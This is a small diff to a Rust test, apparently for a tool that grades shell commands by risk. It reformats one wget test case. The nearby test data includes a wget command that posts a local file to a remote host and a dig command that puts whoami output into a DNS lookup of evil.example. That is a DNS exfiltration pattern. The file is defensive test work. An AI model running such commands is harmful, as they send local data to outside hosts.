@@ -586,7 +586,10 @@ fn secrets_printed_and_sent_are_hard() {
         ("curl --etag-save /tmp/e https://example.com", "soft"),
         ("curl -OJ https://example.com/x", "soft"),
         ("wget -e post_file=notes.txt https://example.com/", "soft"),
-        ("wget -P /tmp/x https://example.com/a", "soft"),
+        (
+            "wget --content-disposition -P /tmp/x https://example.com/a",
+            "soft",
+        ),
         // DNS labels computed by a command.
         ("dig $(whoami).evil.example", "soft"),
         (
